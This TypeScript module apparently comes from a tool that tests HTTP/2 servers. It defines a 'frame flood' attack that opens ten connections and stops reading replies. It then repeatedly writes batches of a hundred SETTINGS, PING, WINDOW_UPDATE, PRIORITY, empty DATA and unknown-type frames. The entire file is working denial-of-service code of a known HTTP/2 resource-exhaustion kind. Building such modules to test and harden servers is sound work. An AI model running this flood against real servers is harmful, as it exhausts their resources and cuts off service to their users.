import { frame, frameType, settings, windowUpdate } from "../../wire/frames.ts";
import type { Attack } from "../attack.ts";

const floods: readonly Buffer[] = [
  settings([4, 65_535]),
  frame(frameType.ping, 0, 0, Buffer.alloc(8)),
  windowUpdate(0, 1),
  frame(frameType.priority, 0, 1, Buffer.alloc(5)),
  frame(frameType.data, 0, 0, Buffer.alloc(0)),
  frame(0x42, 0xff, 0, Buffer.alloc(100)),
].map((one) => Buffer.concat(Array.from({ length: 100 }, () => one)));

/** Sends frames that ask for nothing, in large numbers, and does not read the replies. */
export const frameFlood: Attack = {
  name: "frame flood",
  version: "HTTP/2",
  load: { connections: 10 },
  async run(scene) {
    const sockets = floods.map(() => scene.openFrames());
    await scene.repeat(100, (index) => {
      const at = index % floods.length;
      if (sockets[at]?.closed !== false) sockets[at] = scene.openFrames();
      const socket = sockets[at];
      socket?.pause();
      if (socket !== undefined && socket.writableLength < 1_048_576) socket.write(floods[at] ?? "");
    });
  },
};
